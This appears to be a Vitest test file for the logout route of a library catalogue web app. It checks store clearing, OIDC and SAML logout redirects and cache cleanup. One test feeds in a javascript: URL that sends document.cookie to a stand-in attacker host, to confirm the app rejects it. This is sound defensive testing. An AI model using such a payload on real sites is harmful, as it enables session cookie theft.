import { QueryClient } from '@tanstack/react-query';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { Institution } from '../../../src/api/generated/model';
import { logoutLoader } from '../../../src/app/logout/logout-route';
import { logout, OIDC_NONCE_STORAGE_KEY } from '../../../src/features/auth/api/logout';
import {
  authActions,
  useRememberedAuthStore,
  useSessionAuthStore,
} from '../../../src/stores/auth-store';
import { menuActions, useMenuStore } from '../../../src/app/personal-area/menu-store';
import {
  tickedTitlesActions,
  useTickedTitlesStore,
} from '../../../src/features/search/stores/ticked-titles-store';
import { publicConfigQueries } from '../../../src/api/queries/public-config-queries';

const institution: Institution = {
  codEmpresa: 1,
  sigla: 'UFX',
  usaOIDC: false,
  usaSAML: false,
  modo_autenticacao: 2,
  modo_criptografia: 4,
  parametros: { url_web: 'https://biblioteca.ufx.example.org', aquisicao: true },
};
const guide = {
  codigo: 'geral',
  descricao: 'Pesquisa geral',
  tipo: 'simple',
  ordem: 1,
  padrao: true,
};
const pendingTitlesKey = ['emprestimo', 'titulos-pendentes'];
const activity = { cod_atividade: 13, cod_modulo: 1, descricao: 'Comentários' };

beforeEach(() => {
  authActions.signedIn('remembered', {
    credentials: { access_token: 'a', refresh_token: 'r' },
    user: { cod_pessoa: 1, nome_pessoa: 'Ana Lima', login: 'leitor' },
    authPermissions: [activity],
  });
  menuActions.menuToggled();
  tickedTitlesActions.changed([{ cod_acervo: 7 } as never]);
});
afterEach(() => {
  sessionStorage.clear();
  vi.unstubAllGlobals();
});

describe('logout (spec section 4, "Session")', () => {
  it('clears both auth stores', async () => {
    expect(await logout(institution)).toEqual({ kind: 'base' });

    expect(useRememberedAuthStore.getState().user).toBeNull();
    expect(useSessionAuthStore.getState().credentials).toBeNull();
  });

  it('after an OIDC sign-in, removes the nonce and goes to the OIDC logout link, else reloads', async () => {
    sessionStorage.setItem(OIDC_NONCE_STORAGE_KEY, 'n-1');
    expect(
      await logout({ ...institution, usaSAML: true, link_logout_OIDC: 'https://idp/sair' }),
    ).toEqual({
      kind: 'external',
      url: 'https://idp/sair',
    });
    expect(sessionStorage.getItem(OIDC_NONCE_STORAGE_KEY)).toBeNull();

    sessionStorage.setItem(OIDC_NONCE_STORAGE_KEY, 'n-2');
    expect(await logout({ ...institution, link_logout_OIDC: null })).toEqual({ kind: 'reload' });
  });

  it('with SAML on, goes to the SAML logout link, else reloads', async () => {
    expect(
      await logout({ ...institution, usaSAML: true, link_logout_saml: 'https://sso/logout' }),
    ).toEqual({
      kind: 'external',
      url: 'https://sso/logout',
    });
    expect(await logout({ ...institution, usaSAML: true, link_logout_saml: null })).toEqual({
      kind: 'reload',
    });
  });
});

describe('logoutLoader (/sair)', () => {
  it('drops patron data from the cache, keeps the institution, and goes home', async () => {
    const queryClient = new QueryClient();
    queryClient.setQueryData(publicConfigQueries.institution().queryKey, institution);
    queryClient.setQueryData(publicConfigQueries.functionalities().queryKey, [activity]);
    queryClient.setQueryData(publicConfigQueries.searchGuides().queryKey, [guide] as never);
    queryClient.setQueryData(pendingTitlesKey, [{ cod_exemplar: 1 }]);

    const response = await logoutLoader(queryClient);

    expect(response?.status).toBe(302);
    expect(response?.headers.get('Location')).toBe('/');
    expect(queryClient.getQueryData(pendingTitlesKey)).toBeUndefined();
    expect(queryClient.getQueryData(publicConfigQueries.institution().queryKey)).toEqual(
      institution,
    );
    expect(queryClient.getQueryData(publicConfigQueries.functionalities().queryKey)).toEqual([
      activity,
    ]);
    expect(queryClient.getQueryData(publicConfigQueries.searchGuides().queryKey)).toHaveLength(1);
  });

  it('resets the page and search state kept for the patron', async () => {
    await logoutLoader(new QueryClient());
    expect(useMenuStore.getState().menuOpen).toBe(true);
    expect(useTickedTitlesStore.getState().acervosFiltrados).toEqual([]);
  });

  it('leaves the app with a full load of its base address when SAML has no logout link', async () => {
    const assign = vi.fn();
    vi.stubGlobal('location', { ...window.location, assign });
    const queryClient = new QueryClient();
    queryClient.setQueryData(publicConfigQueries.institution().queryKey, {
      ...institution,
      usaSAML: true,
      link_logout_saml: null,
    });

    expect(await logoutLoader(queryClient)).toBeNull();
    expect(assign).toHaveBeenCalledWith(new URL('/', window.location.origin).href);
  });

  it('still ends with a full load of the base address when the logout link is not a web address', async () => {
    const assign = vi.fn();
    vi.stubGlobal('location', { ...window.location, assign });
    vi.spyOn(console, 'warn').mockImplementation(() => {});
    const queryClient = new QueryClient();
    queryClient.setQueryData(publicConfigQueries.institution().queryKey, {
      ...institution,
      usaSAML: true,
      link_logout_saml: 'javascript:fetch("//evil.example/?"+document.cookie)',
    });

    expect(await logoutLoader(queryClient)).toBeNull();
    expect(assign.mock.calls).toEqual([[new URL('/', window.location.origin).href]]);
  });
});
